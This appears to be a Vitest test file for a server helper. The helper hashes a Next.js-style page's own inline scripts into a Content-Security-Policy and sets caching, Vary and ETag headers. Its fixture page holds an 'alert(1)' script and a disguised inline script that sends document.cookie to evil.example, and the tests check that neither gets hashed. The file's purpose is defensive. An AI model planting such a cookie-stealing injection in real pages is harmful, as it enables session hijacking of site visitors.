import { createHash } from "node:crypto";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import compression from "compression";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { addSharedPageHeaders, frameworkScriptHashes } from "../../scripts/shared-page-headers.mjs";

const sha256 = (text: string) => createHash("sha256").update(text, "utf8").digest("base64");

const BOOTSTRAP = "(self.__next_f=self.__next_f||[]).push([0])";
const DATA = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n Ünïcode ✓"])';
const CHUNKS = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["a.js"],"runtimeModuleIds":[1]});';
const SMUGGLED = 'self.__next_f.push([1,"x"]);fetch("//evil.example/"+document.cookie);self.__next_f.push([1])';
const PAGE = [
  "<!DOCTYPE html><html><head>",
  '<script src="/_next/static/chunks/app.js" async=""></script>',
  `<script id="_R_">${CHUNKS}</script>`,
  "</head><body><p>Text &lt;script&gt;not a script&lt;/script&gt;</p>",
  `<script>${BOOTSTRAP}</script><script>${DATA}</script>`,
  "<script>alert(1)</script>",
  `<script>${SMUGGLED}</script>`,
  '<script type="application/ld+json">{"@type":"NewsArticle"}</script>',
  "</body></html>",
].join("");

describe("frameworkScriptHashes", () => {
  it("hashes exactly the framework's own inline scripts, byte for byte", () => {
    expect(frameworkScriptHashes(PAGE)).toEqual([sha256(CHUNKS), sha256(BOOTSTRAP), sha256(DATA)]);
  });

  it("never vouches for other inline code, even dressed as the framework's", () => {
    const hashes = frameworkScriptHashes(PAGE);
    expect(hashes).not.toContain(sha256("alert(1)"));
    expect(hashes).not.toContain(sha256(SMUGGLED));
  });

  it("stops at a page cut short", () => {
    expect(frameworkScriptHashes(`<script>${BOOTSTRAP}</script><script>${DATA}`)).toEqual([sha256(BOOTSTRAP)]);
  });
});

// A server in front of a handler, put together as scripts/serve.mjs does it.
type Handler = (request: IncomingMessage, response: ServerResponse) => void;
const routes: Record<string, Handler> = {
  "/end-at-once": (_request, response) => {
    response.setHeader("Content-Type", "text/html; charset=utf-8");
    response.setHeader("Cache-Control", "s-maxage=30, stale-while-revalidate=60");
    response.setHeader("Vary", "rsc, Accept-Encoding");
    response.end(Buffer.from(PAGE));
  },
  "/written-in-parts": (_request, response) => {
    response.writeHead(200, { "Content-Type": "text/html; charset=utf-8", "X-Part": "yes" });
    response.write(PAGE.slice(0, 200));
    response.write(PAGE.slice(200), "utf8");
    response.end();
  },
  "/cookies": (_request, response) => {
    response.writeHead(200, ["Content-Type", "text/html", "Set-Cookie", "a=1", "Set-Cookie", "b=2"]);
    response.end("<p>two cookies</p>", () => finished.push("/cookies"));
  },
  "/cached-page": (request, response) => {
    response.setHeader("Content-Type", "text/html; charset=utf-8");
    response.setHeader("Content-Length", Buffer.byteLength(PAGE));
    response.end(request.method === "HEAD" ? undefined : PAGE);
  },
  "/has-policy": (_request, response) => {
    response.writeHead(200, { "Content-Type": "text/html", "Content-Security-Policy": "script-src 'nonce-abc'" });
    response.write("<p>rendered ");
    response.end("for this request</p>");
  },
  "/json": (_request, response) => {
    response.writeHead(201, { "Content-Type": "application/json" });
    response.end(JSON.stringify({ page: PAGE }));
  },
};

const finished: string[] = [];
let server: Server;
let base: string;
beforeAll(async () => {
  const compress = compression({ threshold: 0 });
  server = createServer((request, response) =>
    compress(request as never, response as never, () => {
      addSharedPageHeaders(request, response);
      routes[request.url ?? ""]!(request, response);
    }),
  );
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

function scriptSources(policy: string | null): string[] {
  return (policy ?? "")
    .split("; ")
    .find((directive) => directive.startsWith("script-src "))!
    .split(" ")
    .slice(1);
}

describe("addSharedPageHeaders", () => {
  const cases: [string, string][] = [
    ["/end-at-once", "identity"],
    ["/written-in-parts", "identity"],
    ["/end-at-once", "gzip"],
    ["/written-in-parts", "gzip"],
  ];
  for (const [path, encoding] of cases) {
    it(`gives an HTML page without a policy one that names its framework scripts (${path}, ${encoding})`, async () => {
      const response = await fetch(base + path, { headers: { "Accept-Encoding": encoding } });
      expect(response.status).toBe(200);
      expect(response.headers.get("content-encoding")).toBe(encoding === "gzip" ? "gzip" : null);
      expect(await response.text()).toBe(PAGE);
      const policy = response.headers.get("content-security-policy");
      expect(scriptSources(policy)).toEqual(["'self'", `'sha256-${sha256(CHUNKS)}'`, `'sha256-${sha256(BOOTSTRAP)}'`, `'sha256-${sha256(DATA)}'`]);
      for (const directive of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'self'"]) expect(policy).toContain(directive);
      if (path === "/written-in-parts") expect([response.headers.get("x-part"), response.headers.get("vary")]).toEqual(["yes", "Accept-Encoding"]);
      // A shared cache may keep the page, but never for a reader who sends a cookie.
      if (path === "/end-at-once") expect(response.headers.get("vary")).toBe("rsc, Accept-Encoding, Cookie");
    });
  }

  it("keeps repeated headers, and calls end's callback once the page is sent", async () => {
    const response = await fetch(base + "/cookies");
    expect([response.headers.getSetCookie(), await response.text()]).toEqual([["a=1", "b=2"], "<p>two cookies</p>"]);
    await expect.poll(() => finished).toContain("/cookies");
  });

  it("gives a page its SHA-256 as ETag and answers 304 to a client that has it; a HEAD answer vouches for no script", async () => {
    const page = await fetch(base + "/cached-page");
    const etag = page.headers.get("etag")!;
    expect(etag).toBe(`"${createHash("sha256").update(PAGE).digest("base64url").slice(0, 32)}"`);
    expect(scriptSources(page.headers.get("content-security-policy"))).toHaveLength(4);

    const again = await fetch(base + "/cached-page", { headers: { "If-None-Match": `"something-else", W/${etag}` } });
    expect([again.status, await again.text(), again.headers.get("content-security-policy")]).toEqual([304, "", page.headers.get("content-security-policy")]);
    expect((await fetch(base + "/cached-page", { headers: { "If-None-Match": '"stale"' } })).status).toBe(200);

    const head = await fetch(base + "/cached-page", { method: "HEAD" });
    expect([head.status, scriptSources(head.headers.get("content-security-policy"))]).toEqual([200, ["'self'"]]);
  });

  it("leaves a page that has its own policy, and anything not HTML, as they were", async () => {
    const rendered = await fetch(base + "/has-policy");
    expect([rendered.headers.get("content-security-policy"), await rendered.text()]).toEqual(["script-src 'nonce-abc'", "<p>rendered for this request</p>"]);
    const json = await fetch(base + "/json", { headers: { "Accept-Encoding": "gzip" } });
    expect([json.status, json.headers.get("content-security-policy"), (await json.json()).page]).toEqual([201, null, PAGE]);
  });
});
